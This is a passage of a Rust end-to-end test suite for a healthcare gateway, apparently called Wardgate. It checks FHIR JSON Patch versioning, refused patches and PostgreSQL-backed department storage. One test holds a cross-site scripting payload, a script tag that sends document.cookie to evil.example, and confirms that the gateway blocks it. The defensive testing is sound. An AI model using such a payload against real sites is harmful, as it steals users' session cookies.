        {"op": "add", "path": "/note", "value": [{"text": note}]},
    ])
    .to_string();
    let applied = client
        .send(
            "PATCH",
            path,
            &[("content-type", PATCH_JSON), ("if-match", "W/\"1\"")],
            patch.clone(),
        )
        .await;
    assert_eq!(applied.status, 200, "{}", applied.reason());
    let read = client.send("GET", path, &[], "").await.json();
    assert_eq!(read["status"], "final");
    assert_eq!(read["note"][0]["text"], note);
    assert_eq!(read["meta"]["versionId"], "2");

    // The same patch against version 1 again: the resource moved on.
    let stale = client
        .send(
            "PATCH",
            path,
            &[("content-type", PATCH_JSON), ("if-match", "W/\"1\"")],
            patch,
        )
        .await;
    assert_eq!(stale.status, 412, "{}", stale.reason());

    // A script planted through a patch never reaches the department.
    let hostile = serde_json::json!([
        {"op": "add", "path": "/note/-", "value": {"text": "<script>fetch('//evil.example/'+document.cookie)</script>"}},
    ])
    .to_string();
    let blocked = client
        .send("PATCH", path, &[("content-type", PATCH_JSON)], hostile)
        .await;
    assert_eq!(blocked.status, 403, "{}", blocked.reason());

    // A patch that removes what an Observation must have is refused; nothing changes.
    let breaking = r#"[{"op":"remove","path":"/resourceType"}]"#;
    let refused = client
        .send("PATCH", path, &[("content-type", PATCH_JSON)], breaking)
        .await;
    assert!((400..500).contains(&refused.status), "{}", refused.reason());
    let after = client.send("GET", path, &[], "").await.json();
    assert_eq!(after, read, "a refused patch changed the resource");
}

fn postgres_url() -> Option<String> {
    match std::env::var("WARDGATE_TEST_POSTGRES_URL") {
        Ok(url) if !url.is_empty() => Some(url),
        _ => {
            eprintln!(
                "SKIPPED: serve on PostgreSQL; set WARDGATE_TEST_POSTGRES_URL \
                 (e.g. postgres://postgres@127.0.0.1:5432/test) to run it"
            );
            None
        }
    }
}

/// Drop the schemas a test made, with `psql` when the machine has it.
fn drop_schemas(url: &str, schemas: &[String]) {
    let sql: String = schemas
        .iter()
        .map(|s| format!("DROP SCHEMA IF EXISTS \"{s}\" CASCADE;"))
        .collect();
    match Command::new("psql").args([url, "-q", "-c", &sql]).output() {
        Ok(output) if output.status.success() => {}
        _ => eprintln!("could not drop the test schemas {schemas:?} (no psql?)"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_keeps_the_departments_in_postgresql_when_given_a_database_url() {
    let Some(url) = postgres_url() else { return };
    let unique = format!(
        "wge2e_{}_{}_",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos()
    );
    let identity_schema = format!("{unique}identity");
    let store = vec![
        "--database-url".to_owned(),
        url.clone(),
        "--database-schema".to_owned(),
        identity_schema.clone(),
    ];
    let mut serve_options = store.clone();
    serve_options.extend(["--schema-prefix".to_owned(), unique.clone()]);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("wardgate.toml"), test_policy()).unwrap();
    std::fs::create_dir_all(dir.path().join("data")).unwrap();
    add_physician(dir.path(), &store);
    let served = start(dir.path(), &serve_options);
    let data = dir.path().join("data");
    let mut client = Client::new(served.public, &data.join("ca.pem"));
    client
        .log_in(&data, Some((url.as_str(), identity_schema.as_str())))
        .await;

    let patient = r#"{"resourceType":"Patient","id":"pg-e2e","name":[{"family":"Ó Súilleabháin","given":["Máire"]}],"birthDate":"1961-03-02"}"#;
    let put = client
        .send(
            "PUT",
            "/emergency/fhir/Patient/pg-e2e",
            &[("content-type", FHIR_JSON)],
            patient,
        )
        .await;
    assert_eq!(put.status, 201, "{}", put.text());
    let (name, file) = dicom_files().swap_remove(0);
    let mut findings = Findings::default();
    let body = multipart::write("b", &[("application/dicom".to_owned(), &file)]);
    let stow = client
        .send(
            "POST",
            "/radiology/dicom-web/studies",
            &[(
                "content-type",
                "multipart/related; type=\"application/dicom\"; boundary=b",
            )],
            body,
        )
        .await;
    if stow.status != 200 {
        findings.add(stow.reason(), format!("STOW-RS {name}"));
    }
    drop(client);
    drop(served);
    assert!(findings.0.is_empty(), "{}", findings.report());

    // Nothing of the departments went to SQLite files; the schemas hold what was written:
    // a department opened on them, with the data folder's master key, reads it back.
    assert!(
        !data.join("departments").join("emergency.db").exists(),
        "the emergency department wrote an SQLite file"
    );
    let stores = wardgate_departments::StoreConfig::Postgres {
        url: url.clone(),
        schema_prefix: unique.clone(),
    };
    let master = Arc::new(wardgate_departments::MasterKey::load_or_create(&data).unwrap());
    let mut found = Vec::new();
    for (department, path) in [
        ("emergency", "/fhir/Patient/pg-e2e"),
        ("radiology", "/dicom-web/studies"),
    ] {
        let config =
            wardgate_departments::DepartmentConfig::with_defaults(department, "https://h.test");
        let dept = wardgate_departments::Department::open(
            config,
            stores.open(department).await.unwrap(),
            master.clone(),
        )
        .await
        .unwrap();
        let response = dept
            .handle(http::Request::get(path).body(Bytes::new()).unwrap())
            .await;
        found.push((response.status().as_u16(), response.into_body()));
    }
    let mut schemas: Vec<String> = wardgate_departments::DEFAULT_DEPARTMENTS
        .iter()
        .map(|d| format!("{unique}{d}"))
        .collect();
    schemas.push(identity_schema);
    drop_schemas(&url, &schemas);

    assert_eq!(found[0].0, 200);
    let read: Value = serde_json::from_slice(&found[0].1).unwrap();
    let sent: Value = serde_json::from_str(patient).unwrap();
    assert_eq!(without_meta(read), sent);
    assert_eq!(found[1].0, 200, "{}", String::from_utf8_lossy(&found[1].1));
    let studies: Value = serde_json::from_slice(&found[1].1).unwrap();
    assert_eq!(studies.as_array().map(Vec::len), Some(1), "{studies}");
}
